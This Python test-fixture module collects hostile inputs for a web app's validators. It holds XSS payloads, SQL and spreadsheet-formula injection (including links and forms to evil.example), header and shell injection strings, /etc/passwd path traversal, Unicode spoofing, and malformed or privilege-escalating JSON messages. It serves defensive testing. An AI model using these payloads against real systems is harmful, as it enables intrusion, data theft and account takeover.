"""Texts that mean harm: to pages, to other people's eyes, to parsers, logs and the time of others.

Each carries ``MARK`` where it would run or break out, so that a test can look for it. None of them
is made for one of our pages: a gate that stops them stops their like.
"""

import json
from collections.abc import Iterator, Mapping
from typing import Final

MARK: Final = "hostile7"
CALL: Final = f"{MARK}()"
BIDI: Final = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

# What a browser could run or take for markup.
MARKUP: Final[Mapping[str, str]] = {
    "element": f"<script>{CALL}</script>",
    "attribute": f'"><img src=x onerror={CALL}>',
    "attribute without quotes": f"x onmouseover={CALL} y",
    "single quotes": f"'><svg onload={CALL}>",
    "polyglot": f"-->'\"/></title></textarea></script><img/src=x onerror={CALL}>",
    "address": f"javascript:{CALL}",
    "address in disguise": f" jAvA\tscript:{CALL}",
    "address of data": f"data:text/html,<script>{CALL}</script>",
    "script's string": f"';{CALL};//\\';{CALL};\"",
    "script's template": "${" + CALL + "}`" + CALL + "`",
    "end of JSON": f'"}}]}}</script><script>{CALL}</script>',
    "style": f"</style><b style=background:url(javascript:{CALL})>{MARK}",
    "entity": f"&lt;img src=x onerror={CALL}&gt;&#60;script&#62;",
    "comment": f"<!--{MARK}--><![CDATA[<b {MARK}>]]>",
    "unfinished": f"<b {MARK}=",
    "null in a name": f"<scr\0ipt>{CALL}</scr\0ipt>",
    "form": f"</form><form action=//evil.example/{MARK}><button name={MARK}>",
    "base": f"<base href=//evil.example/{MARK}><meta http-equiv=refresh content=0;//evil.example>",
    "template": MARK + "{{7*7}}{% raw %}{#",
    "template's attribute": "{{ config.__class__ }}{{''.__class__.__mro__}}" + MARK,
    "format": MARK + "%s%n%(x)s{0.__class__}{}",
    "markdown": f'[x](javascript:{CALL}) ![x](x "onerror={CALL}") <{MARK}>',
}

# What something else could run, or take for its own.
COMMANDS: Final[Mapping[str, str]] = {
    "SQL": f"'; DROP TABLE texts; -- {MARK}",
    "SQL pattern": "%' OR '1'='1' /* _%",
    "formula": f'=HYPERLINK("http://evil.example/{MARK}")',
    "formula with plus": f"+cmd|' /C {MARK}'!A0",
    "formula with at": f"@SUM(1+1)*{MARK}",
    "log": f'x"}}\n{{"event": "{MARK}", "level": "error"}}',
    "header": f"x\r\nSet-Cookie: dialog={MARK}\r\n\r\n<script>{CALL}</script>",
    "calendar": f"x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:{MARK}",
    "shell": f"$({MARK}) `{MARK}` ; {MARK} | {MARK} &",
    "path": f"../../../etc/passwd/..\\..\\{MARK}%2e%2e%2f",
    "terminal": f"\x1b]0;{MARK}\x07\x1b[2J",
}

# What nobody may see as it is.
SIGNS: Final[Mapping[str, str]] = {
    "override": "Ist das \u202egnulhaz eniek\u202c?",
    "isolates": "\u2066\u2067\u2068abc\u2069\u2069\u2069",
    "embeddings": "\u202a\u202babc\u202c\u202c",
    "deprecated formats": "a\u206a\u206b\u206f",
    "zalgo": "".join(f"{letter}" + "\u0300\u0316\u0489\u035c\u0325\u0336" for letter in "Frage"),
    "tower of spacing marks": "a" + "\U0001d165\U0001d16d" * 100,
    "a hundred thousand marks": "a" + "\u0301\u0323" * 50_000,
    "alternating marks": ("a" + "\u0301\u0323\u0302\u0327") * 60,
    "lone high surrogate": "a\ud800b",
    "lone low surrogate": "a\udfffb",
    "surrogates the wrong way round": "\ude00\ud83d",
    "null": "a\0b",
    "controls": "a\x01\x08\x0b\x0c\x1f\x7fb",
    "controls of another kind": "a\x80\x85\x9fb",
    "noncharacters": "a\ufffe\uffff\ufdd0b",
    "noncharacters far out": "a\U0001fffe\U0010ffff",
    "tags": "a" + "".join(chr(0xE0000 + ord(letter)) for letter in "geheim") + "b",
    "line separators": "a\u2028b\u2029c",
    "replacement": "a\ufffdb",
    "annotation": "a\ufff9b\ufffac\ufffbd",
    "invisible only": "\u200b\u2060\ufeff\u00ad\u034f\u115f\u3164\u2800",
    "spaces only": " \u00a0\u2003\u3000\n\t",
    "byte order mark": "\ufeffText",
    "homoglyphs": "\u041cinist\u0435r \u0430ntw\u043ert\u0435t s\u043efort",
    "very long": "x" * 20_000,
    "very long in bytes": "\U0001f4a3" * 20_000,
}

# What people may well write, and everyone has to see as it was meant.
WELCOME: Final[Mapping[str, str]] = {
    "Arabic": "متى تبدأ دورة اللغة القادمة في ميونخ؟",
    "Hebrew with numbers": "מתי מתחיל הקורס ב-3.12.2026 (18:00)?",
    "Persian": "می‌خواهم بدانم کلاس کی شروع می‌شود؟",
    "Vietnamese": "Khi nào khóa học tiếng Đức bắt đầu?",
    "Hindi": "कक्षा कब शुरू होगी?",
    "family": "Gilt das auch für 👩‍👩‍👧‍👦 und 🏳️‍🌈?",
    "long word": "Donaudampfschifffahrtsgesellschaft" * 8,
    "quotes": "Er sagte: „Das geht nicht“ – 'wirklich' \"nicht\" & <nie>?",
    "ligatures": "ﬁnden Sie 2³ ½ Å Ω?",
}

TEXTS: Final[Mapping[str, str]] = {**MARKUP, **COMMANDS, **SIGNS, **WELCOME}

# Addresses that are no sources.
ADDRESSES: Final = (
    f"javascript:{CALL}", f"JAVASCRIPT:{CALL}//https://", f"data:text/html,{MARK}",
    f"//evil.example/{MARK}", "https://", "https:///x", "http:x", "https:\\\\evil.example",
    f"vbscript:{MARK}", "file:///etc/passwd", "ftp://x.example", f" https://x.example\n{MARK}",
    "https://x.example/\u202egpj.exe", "https://x.example/\0",
)  # fmt: skip

DEEP: Final = 100_000
_ASK: Final = {"type": "command", "do": "ask", "key": "12345678"}
_PLAIN: Final = json.dumps(_ASK)[:-1]


def messages() -> Iterator[tuple[str, bytes]]:
    """Return messages that are none: not JSON, not ours, or not what they seem."""
    for value in ("NaN", "Infinity", "-Infinity", "1e999", "-0.0", "1.0", "9" * 400, "0x1", "01"):
        yield f"number {value[:9]}", f'{_PLAIN},"text":"a","number":{value}}}'.encode()
        yield f"text {value[:9]}", f'{_PLAIN},"text":{value}}}'.encode()
    for value in ("null", "true", "[]", "{}", '["a"]', '{"a":"b"}', "12"):
        yield f"text {value}", f'{_PLAIN},"text":{value}}}'.encode()
    yield "name twice", f'{_PLAIN},"text":"a","text":"b"}}'.encode()
    yield "type twice", f'{_PLAIN},"text":"a","type":"hello"}}'.encode()
    yield "command twice", f'{_PLAIN},"text":"a","do":"publish"}}'.encode()
    yield "name twice in disguise", f'{_PLAIN},"text":"a","te\\u0078t":"b"}}'.encode()
    yield "unknown field", f'{_PLAIN},"text":"a","admin":true}}'.encode()
    yield "prototype", f'{_PLAIN},"text":"a","__proto__":{{"role":"organiser"}}}}'.encode()
    yield "command of the server", b'{"type":"command","do":"tick","key":"12345678"}'
    yield (
        "entering",
        b'{"type":"command","do":"enter","key":"12345678","person":1,"role":"organiser"}',
    )
    for number in (-1, 2**53, 10**30, 1.5, "1", None):
        for name in ("number", "intent"):
            tap = {"number": 1, "on": True, "intent": 1} | {name: number}
            yield f"{name} {number}", json.dumps(_ASK | {"do": "upvote"} | tap).encode()
    yield "no command", b'{"type":"command","do":"__class__","key":"12345678"}'
    yield "no key", b'{"type":"command","do":"ask","text":"a"}'
    for key in (
        "1234567",
        "x" * 65,
        "1234567\\n",
        "12345678\\n",
        "1234567 ",
        "1234567\\u0000",
        "ä" * 8,
    ):
        yield (
            f"key {key[:10]}",
            f'{{"type":"command","do":"ask","key":"{key}","text":"a"}}'.encode(),
        )
    for field, value in (("show", "everyone"), ("via", "satellite"), ("number", "-1")):
        yield f"bad {field}", json.dumps(_ASK | {"text": "a", field: value}).encode()
    for escaped in ("\\ud800", "\\udfff", "\\ude00\\ud83d", "\\ud83dx"):
        yield f"surrogate {escaped}", f'{_PLAIN},"text":"{escaped}"}}'.encode()
    yield "brackets", b"[" * DEEP
    yield "braces", b'{"a":' * DEEP
    yield "brackets within", f'{_PLAIN},"text":{"[" * 4_000}'.encode()
    yield "braces within", f'{_PLAIN},"x":{"{" * 4_000}'.encode()
    yield "deep and whole", f'{_PLAIN},"text":{"[" * 3_000}{"]" * 3_000}}}'.encode()
    yield "half a surrogate", _PLAIN.encode() + b',"text":"\xed\xa0\x80"}'
    yield "latin", _PLAIN.encode() + b',"text":"\xe4"}'
    yield "too long a form", _PLAIN.encode() + b',"text":"\xc0\xaf"}'
    yield "byte order mark", b"\xef\xbb\xbf" + _PLAIN.encode() + b',"text":"a"}'
    yield "wide characters", (f'{_PLAIN},"text":"a"}}').encode("utf-16")
    yield "trailing", _PLAIN.encode() + b',"text":"a"}{"type":"resync"}'
    yield "comma", _PLAIN.encode() + b',"text":"a",}'
    yield "comment", _PLAIN.encode() + b',"text":"a"/**/}'
    yield "single quotes", b"{'type':'command'}"
    for whole in (b"", b" ", b"null", b"0", b'"hello"', b"[]", b"{}", b"\0", b'{"type":"bye"}'):
        yield f"whole {whole!r}", whole
